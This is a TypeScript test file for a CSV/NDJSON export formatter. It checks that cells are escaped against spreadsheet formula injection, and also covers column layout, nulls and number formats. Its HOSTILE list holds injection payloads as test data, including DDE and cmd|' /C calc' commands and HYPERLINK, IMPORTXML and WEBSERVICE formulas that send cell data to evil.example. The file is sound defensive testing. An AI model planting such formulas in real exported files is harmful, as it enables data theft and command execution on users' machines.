import { parse } from 'csv-parse/sync'
import * as v from 'valibot'
import { describe, expect, it } from 'vitest'
import { listColumns } from '../../src/rows/columns.ts'
import { toHead, toLines } from '../../src/rows/row-format.ts'

const NAME = listColumns(v.object({ name: v.string() }))
const toCell = (text: string): string => toLines('csv', NAME, [{ name: text }])

/** Texts as a stranger may put them into an answer, a page or a log, and what stands in the file for them. */
const HOSTILE: readonly (readonly [text: string, line: string])[] = [
  ['=1+1', "'=1+1"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://evil.example/?"&A1,"ok")', `"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`],
  ['=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")', `"'=IMPORTXML(CONCAT(""http://evil.example/"",A2),""//a"")"`],
  ['=WEBSERVICE("http://evil.example")', `"'=WEBSERVICE(""http://evil.example"")"`],
  ['=DDE("cmd";"/C calc";"x")', `"'=DDE(""cmd"";""/C calc"";""x"")"`],
  ['==1', "'==1"],
  ['=', "'="],
  ['= 1', "'= 1"],
  ["='a'!A1", "'='a'!A1"],
  ['=\n1', `"'=\n1"`],
  ['=\r\n1', `"'=\r\n1"`],
  ['="a"', `"'=""a"""`],
  ['=a,b', `"'=a,b"`],
  ['+1+1', "'+1+1"],
  ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
  ['+', "'+"],
  ['+49 30 1234', "'+49 30 1234"],
  ['+=1', "'+=1"],
  ['-3', "'-3"],
  ['-1+1', "'-1+1"],
  ["-2+3+cmd|' /C calc'!D2", "'-2+3+cmd|' /C calc'!D2"],
  ['-', "'-"],
  ['--', "'--"],
  ['- a list', "'- a list"],
  ['-0.5', "'-0.5"],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ['@', "'@"],
  ['@acme', "'@acme"],
  ['@=1', "'@=1"],
  ['\t=1', "'\t=1"],
  ['\t', "'\t"],
  ['\tacme', "'\tacme"],
  ['\r=1', `"'\r=1"`],
  ['\r', `"'\r"`],
  ['\r\n=1', `"'\r\n=1"`],
  ['\racme', `"'\racme"`],
  ['\n=1', `"\n=1"`],
  ['"=1"', `"""=1"""`],
  [',=1', `",=1"`],
  ['";=1', `""";=1"`],
  [' =1', ' =1'],
  ["'=1", "'=1"],
]

describe('a hostile text', () => {
  it.each(HOSTILE)('%j stands as %s', (text, line) => {
    expect(toCell(text)).toBe(`${line}\r\n`)
  })

  it('is one cell to a reader, and no formula to a spreadsheet', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(40)
    const file = toHead('csv', NAME) + HOSTILE.map(([text]) => toCell(text)).join('')
    const [head, ...rows] = parse(file)
    expect(head).toEqual(['name'])
    for (const [index, [text]] of HOSTILE.entries()) {
      const [cell = ''] = rows[index] ?? []
      expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      expect(cell.replace(/^'(?=[=+\-@\t\r])/, '')).toBe(text === "'=1" ? '=1' : text)
    }
  })
})

describe('a cell', () => {
  const columns = listColumns(
    v.object({
      n: v.number(),
      flag: v.optional(v.boolean()),
      at: v.nullable(v.object({ date: v.string(), deep: v.nullable(v.object({ status: v.string() })) })),
      names: v.array(v.string()),
      links: v.optional(v.array(v.object({ url: v.string(), title: v.string() }))),
      prompts: v.pipe(v.array(v.object({ id: v.string(), text: v.string() })), v.maxLength(9)),
    }),
  )
  const NULLS = { n: 0, at: null, names: [], prompts: [] }

  it('has a column for each field, of objects within objects too', () => {
    expect(toHead('csv', columns)).toBe('n,flag,at.date,at.deep.status,names,links,prompts\r\n')
  })

  it('is empty for null, for what is not there, and for an empty list', () => {
    expect(toLines('csv', columns, [NULLS])).toBe('0,,,,,,\r\n')
  })

  it('is written as in JSON where it is no text', () => {
    const numbers = [-3, -0, 0.1 + 0.2, 1e21, 1e-7, 123456789012]
    const lines = toLines(
      'csv',
      columns,
      numbers.map((n) => ({ ...NULLS, n, flag: n < 0 })),
    )
    expect(lines.split('\r\n').map((line) => line.split(',').slice(0, 2).join())).toEqual([
      '-3,true',
      '0,false',
      '0.30000000000000004,false',
      '1e+21,false',
      '1e-7,false',
      '123456789012,false',
      '',
    ])
  })

  it('joins lists, of objects their url or else their id', () => {
    const row = {
      ...NULLS,
      at: { date: '2026-11-20', deep: { status: 'ok' } },
      names: ['=1', 'b, c'],
      links: [
        { url: 'https://a.example/', title: 'A' },
        { url: 'https://b.example/', title: 'B' },
      ],
      prompts: [
        { id: 'p1', text: 'x' },
        { id: 'p2', text: 'y' },
      ],
    }
    expect(toLines('csv', columns, [row])).toBe(
      `0,,2026-11-20,ok,"'=1 | b, c",https://a.example/ | https://b.example/,p1 | p2\r\n`,
    )
  })

  it('is chosen and ordered by the fields that are asked for', () => {
    const row = v.object({ a: v.string(), b: v.optional(v.object({ id: v.string(), text: v.string() })) })
    expect(toHead('csv', listColumns(row, ['b', 'a']))).toBe('b.id,b.text,a\r\n')
    expect(() => listColumns(row, ['c'])).toThrow('rows have no field c')
  })
})

it('an NDJSON line is the row as JSON, whatever it holds', () => {
  const row = { name: '=1\n"x"', list: [1, null], none: null }
  expect(toHead('ndjson', NAME) + toLines('ndjson', NAME, [row, row])).toBe(`${JSON.stringify(row)}\n`.repeat(2))
})
